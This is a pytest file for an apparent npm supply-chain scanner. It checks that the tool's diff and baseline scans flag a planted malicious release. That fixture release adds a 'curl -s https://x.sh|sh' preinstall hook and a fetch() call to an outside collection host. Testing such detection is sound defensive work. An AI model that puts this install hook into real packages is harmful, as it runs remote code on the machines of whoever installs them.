"""``finalexam diff`` and ``scan --baseline`` through the command line."""

from __future__ import annotations

import json
from functools import cache
from importlib import resources
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from pkgbuild import npm_tarball, package_json

from finalexam.cli import COMMANDS, main
from finalexam.cli import diff as diff_command
from finalexam.cli import repro as repro_command
from schema import assert_valid_report

INDEX = "module.exports = function add(a, b) { return a + b; };\n"


@cache
def diff_validator() -> jsonschema.Draft202012Validator:
    text = resources.files("finalexam.report").joinpath("schema/diff.schema.json").read_text()
    return jsonschema.Draft202012Validator(json.loads(text))


def assert_valid_diff(document: dict[str, Any]) -> None:
    errors = list(diff_validator().iter_errors(document))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors[:10])


@pytest.fixture
def pair(tmp_path: Path) -> tuple[Path, Path, Path]:
    old = npm_tarball(
        tmp_path / "lib-1.0.0.tgz", {"package.json": package_json("1.0.0"), "index.js": INDEX}
    )
    calm = npm_tarball(
        tmp_path / "lib-1.1.0.tgz",
        {
            "package.json": package_json("1.1.0"),
            "index.js": INDEX.replace("a, b", "x, y").replace("a + b", "x + y"),
        },
    )
    hooked = npm_tarball(
        tmp_path / "lib-1.0.1.tgz",
        {
            "package.json": package_json(
                "1.0.1", scripts={"preinstall": "curl -s https://x.sh|sh"}
            ),
            "index.js": INDEX + "fetch('https://telemetry.collect.example.io/p')\n",
        },
    )
    return old, calm, hooked


def test_commands_registered() -> None:
    assert diff_command in COMMANDS and repro_command in COMMANDS
    import finalexam

    assert callable(finalexam.diff) and callable(finalexam.load_report)
    assert {"diff", "load_report", "scan"} <= set(finalexam.__all__)


def test_exit_codes_and_all_formats(
    pair: tuple[Path, Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, calm, hooked = pair
    assert main(["diff", str(old), str(calm)]) == 0
    assert "RISK NONE" in capsys.readouterr().out
    out = {fmt: tmp_path / f"d.{fmt}" for fmt in ("json", "markdown", "html")}
    args = [a for fmt, path in out.items() for a in ("-o", f"{fmt}={path}")]
    assert main(["diff", str(old), str(hooked), *args, "-o", "table"]) == 1
    table = capsys.readouterr().out
    # The hook is high on its own; the behaviour rules rate curl|sh in it critical.
    assert "install-hook-added" in table and "(flagged)" in table
    document = json.loads(out["json"].read_text())
    assert_valid_diff(document)
    assert document["risk"] in ("high", "critical") and document["flagged"] is True
    assert "install-hook-added" in {change["kind"] for change in document["review"]}
    assert document["new"]["version"] == "1.0.1"
    assert "| high | install-hook-added |" in out["markdown"].read_text()
    page = out["html"].read_text()
    assert page.startswith("<!DOCTYPE html>") and "<script" not in page and "http-equiv" not in page
    assert "install-hook-added" in page


def test_stored_reports_diff_like_artifacts(
    pair: tuple[Path, Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, _, hooked = pair
    stored = []
    for target in (old, hooked):
        path = tmp_path / f"{target.name}.report"  # detected by content, not by name
        # The hooked release fails its own exam (curl|sh at install); it is still stored.
        assert main(["scan", str(target), "--files", "-o", f"json={path}"]) in (0, 1)
        stored.append(path)
    out = tmp_path / "d.json"
    code = main(["diff", str(stored[0]), str(stored[1]), "-o", f"json={out}"])
    document = json.loads(out.read_text())
    assert_valid_diff(document)
    assert any("file contents not available" in note for note in document["notes"])
    assert document["summary"]["files"]["files_modified"] == 2
    kinds = {c["kind"] for c in document["changes"]}
    assert "file-modified" in kinds or "code-modified" in kinds
    assert code in (0, 1)


def test_reproducible_json_output(pair: tuple[Path, Path, Path], tmp_path: Path) -> None:
    old, _, hooked = pair
    a, b = tmp_path / "a.json", tmp_path / "b.json"
    main(["diff", str(old), str(hooked), "-o", f"json={a}", "--timestamp", "2024-01-01"])
    main(["diff", str(old), str(hooked), "-o", f"json={b}", "--timestamp", "2024-01-01"])
    assert a.read_bytes() == b.read_bytes()
    assert json.loads(a.read_text())["timestamp"] == "2024-01-01"


def test_usage_errors_exit_2(
    pair: tuple[Path, Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, calm, _ = pair
    assert main(["diff", str(old), str(tmp_path / "missing.tgz")]) == 2
    assert "missing.tgz: no such file or directory" in capsys.readouterr().err
    assert main(["diff", str(old), str(calm), "-o", "sarif"]) == 2
    bad = tmp_path / "bad.json"
    bad.write_text('{"schema": "1.0", "tool": {"name": "finalexam"}, "artifact": {}}')
    assert main(["diff", str(bad), str(calm)]) == 2
    assert "bad.json: not a finalexam report" in capsys.readouterr().err


def test_scan_with_baseline_feeds_the_verdict(
    pair: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    old, calm, hooked = pair
    out = tmp_path / "r.json"
    assert main(["scan", str(calm), "--baseline", str(old), "-o", f"json={out}"]) == 0
    document = json.loads(out.read_text())
    assert_valid_report(document)
    assert document["baseline_diff"]["risk"] == "none"
    assert main(["scan", str(hooked), "--baseline", str(old), "-o", f"json={out}"]) == 1
    document = json.loads(out.read_text())
    assert_valid_report(document)
    rules = {v["rule"] for v in document["verdict"]["violations"]}
    assert rules >= {
        "baseline-no-new-high-risk",
        "baseline-no-new-install-hooks",
        "baseline-no-new-endpoints",
    }
    kinds = {change["kind"] for change in document["baseline_diff"]["review"]}
    assert "install-hook-added" in kinds


def test_endpoint_allowlist_and_rule_switches_from_config(
    pair: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    old, _, hooked = pair
    config = tmp_path / "finalexam.toml"
    config.write_text(
        'endpoint_allowlist = ["*.collect.example.io"]\n'
        '[baseline_rules]\n"no-new-high-risk" = false\n"no-new-install-hooks" = false\n'
    )
    out = tmp_path / "r.json"
    code = main(
        ["scan", str(hooked), "--baseline", str(old), "--config", str(config), "-o", f"json={out}"]
    )
    violations = {v["rule"] for v in json.loads(out.read_text())["verdict"]["violations"]}
    # Only the endpoint rule stays on, and its endpoint is allowed; the behaviour findings of
    # the hook itself still fail the release on their own.
    assert not {rule for rule in violations if rule.startswith("baseline-")}
    assert code == (1 if violations else 0)
    config.write_text("[baseline_rules]\nbogus = true\n")
    assert main(["scan", str(hooked), "--baseline", str(old), "--config", str(config)]) == 2


def test_baseline_may_be_a_stored_report(pair: tuple[Path, Path, Path], tmp_path: Path) -> None:
    old, _, hooked = pair
    stored = tmp_path / "baseline.out"
    assert main(["scan", str(old), "--files", "-o", f"json={stored}"]) == 0
    out = tmp_path / "r.json"
    assert main(["scan", str(hooked), "--baseline", str(stored), "-o", f"json={out}"]) == 1
    document = json.loads(out.read_text())
    assert document["baseline_diff"]["baseline"]["name"] == old.name
    kinds = {c["kind"] for c in document["baseline_diff"]["review"]}
    # Without file contents the hook cannot be verified; the endpoint still shows, from the
    # indicators both reports carry.
    assert "install-hook-unverified" in kinds and "endpoint-added" in kinds
    assert "baseline-no-new-install-hooks" in {v["rule"] for v in document["verdict"]["violations"]}


def test_incomplete_exam_is_exit_3(
    pair: tuple[Path, Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, calm, _ = pair
    out = tmp_path / "d.json"
    assert main(["diff", str(old), str(calm), "--max-files", "2", "-o", f"json={out}"]) == 3
    document = json.loads(out.read_text())
    assert_valid_diff(document)
    assert document["complete"] is False
    assert any("incomplete" in note and "limit" in note for note in document["notes"])
    assert main(["diff", str(old), str(calm), "--max-files", "2"]) == 3
    assert "INCOMPLETE" in capsys.readouterr().out
